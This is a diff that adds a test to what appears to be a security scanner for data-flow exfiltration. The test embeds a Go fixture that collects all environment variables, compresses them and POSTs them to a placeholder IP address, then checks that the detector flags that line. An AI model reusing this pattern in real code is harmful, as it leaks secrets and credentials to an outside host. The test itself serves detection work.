@@ -88,3 +88,25 @@ def test_what_reads_no_credential_or_sends_nothing_of_it_is_not_reported() -> No
     texts = {"cmd/report.go": go, "build.rs": rust, "Rakefile": ruby, "plugin/x.php": php}
     assert code_flow_findings(texts) == []
     assert kind_of("Rakefile") == "program"
+
+
+def test_a_writer_made_over_a_buffer_carries_what_is_encoded_into_it() -> None:
+    go = """package main
+
+import ("bytes"; "compress/gzip"; "encoding/json"; "net/http"; "os")
+
+func refresh() {
+\tmeta := map[string]string{}
+\tfor _, kv := range os.Environ() {
+\t\tmeta[kv] = kv
+\t}
+\tvar buf bytes.Buffer
+\tzw := gzip.NewWriter(&buf)
+\t_ = json.NewEncoder(zw).Encode(meta)
+\treq, _ := http.NewRequest("POST", "http://198.51.100.23/geo", &buf)
+\t_ = req
+}
+"""
+    assert [(f.rule, f.line) for f in code_flow_findings({"geo.go": go})] == [("exfiltration", 13)]
+    counted = go.replace("Encode(meta)", 'Encode(map[string]int{"rows": 1})')
+    assert code_flow_findings({"geo.go": counted}) == []
